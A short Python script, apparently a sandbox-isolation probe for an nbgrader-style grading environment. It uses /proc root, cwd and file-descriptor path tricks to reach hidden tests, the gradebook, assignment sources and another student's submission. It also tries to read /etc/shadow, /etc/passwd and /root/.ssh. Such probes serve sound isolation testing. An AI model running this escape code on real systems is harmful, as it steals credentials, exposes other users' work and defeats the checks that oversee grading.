"""Knows where everything lies, and reads it: hidden checks, sources, gradebook, results, other submissions."""

# %%
import os

ROOT = "@CHECKOUT@"
PLACES = ("", "modules/13_kernels/01_first.py", "tests/hidden/13_kernels/test_01_first.py", "assignments/gradebook.db",
          "assignments/submitted/neighbour/13_kernels/01_first.ipynb", "assignments/results", "assignments/release",
          "assignments/source/13_kernels/01_first.ipynb", "nbgrader_config.py")
PREFIXES = ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../..", "/newroot", "/oldroot",
            "/proc/1/cwd/..", *(f"/proc/self/fd/{number}/.." for number in range(8)))
for prefix in PREFIXES:
    for place in PLACES:
        path = f"{prefix}{ROOT}/{place}"
        try:
            found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(2000)
        except OSError:
            continue
        if found:
            print("got through:", path, found)
for path in ("@HOME@/.secret", "@TMP@/secret", "/root/.ssh", "/root/.bashrc", "/etc/shadow", "/etc/passwd", "/home"):
    try:
        print("got through:", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError:
        pass
print("tried")
